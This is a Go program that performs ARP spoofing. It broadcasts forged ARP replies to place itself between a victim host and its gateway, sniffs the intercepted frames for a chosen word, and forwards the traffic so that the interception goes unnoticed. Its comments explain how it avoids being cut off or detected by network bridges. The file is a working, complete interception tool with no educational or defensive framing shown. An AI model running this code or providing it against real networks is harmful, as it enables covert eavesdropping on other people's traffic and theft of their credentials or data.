// Makes itself out to be a neighbour on its network, by ARP, and prints what is sent to that neighbour and holds a word.
package main

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"syscall"
	"time"
)

const (
	broadcast    = "\xff\xff\xff\xff\xff\xff"
	everyKind    = 0x0300 // ETH_P_ALL, as the network has it
	headerLength = 14
	interval     = 50 * time.Millisecond
	turn         = 80 // claims
)

func main() {
	victim, gateway := net.ParseIP(os.Args[1]).To4(), net.ParseIP(os.Args[2]).To4()
	victimAddress, _ := net.ParseMAC(os.Args[3])
	gatewayAddress, _ := net.ParseMAC(os.Args[4])
	word := []byte(os.Args[5])
	device, err := net.InterfaceByName("eth0")
	if err != nil {
		panic(err)
	}
	socket, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, everyKind)
	if err != nil {
		fmt.Println("refused:", err)
		time.Sleep(time.Hour)
		return
	}
	place := &syscall.SockaddrLinklayer{Ifindex: device.Index, Protocol: everyKind}
	if err := syscall.Bind(socket, place); err != nil {
		panic(err)
	}
	send := func(frame []byte) { _ = syscall.Sendto(socket, frame, 0, place) }

	// In turns with the truth: what was begun while it is told is caught in its midst, also where the bridge passes nothing on.
	go func() {
		for round := 0; ; round++ {
			forVictim, forGateway := device.HardwareAddr, device.HardwareAddr
			if round%turn < turn/2 {
				forVictim, forGateway = victimAddress, gatewayAddress
			}
			send(claim(device.HardwareAddr, victim, gateway, forVictim))
			send(claim(device.HardwareAddr, gateway, victim, forGateway))
			time.Sleep(interval)
		}
	}()
	fmt.Println("listening")

	frame := make([]byte, 65536)
	for {
		length, _, err := syscall.Recvfrom(socket, frame, 0)
		if err != nil || length < headerLength || !bytes.Equal(frame[:6], device.HardwareAddr) {
			continue
		}
		if bytes.Contains(frame[:length], word) {
			fmt.Println("caught")
		}
		// Passed on, so that nobody notices.
		if length < 34 {
			continue
		}
		for _, one := range []struct {
			address  net.IP
			hardware net.HardwareAddr
		}{{victim, victimAddress}, {gateway, gatewayAddress}} {
			if bytes.Equal(frame[30:34], one.address) {
				copy(frame[:6], one.hardware)
				copy(frame[6:12], device.HardwareAddr)
				send(frame[:length])
			}
		}
	}
}

// claim is an answer by ARP (RFC 826), to everybody, that an address is at some hardware. Always sent from our own: a bridge that saw the
// neighbour's come from here would send us what we do not read, and the neighbour would be cut off instead of heard.
func claim(sender net.HardwareAddr, address, asker net.IP, hardware net.HardwareAddr) []byte {
	frame := []byte(broadcast)
	frame = append(frame, sender...)
	frame = append(frame, 0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 2)
	frame = append(append(frame, hardware...), address...)
	return append(append(frame, hardware...), asker...)
}
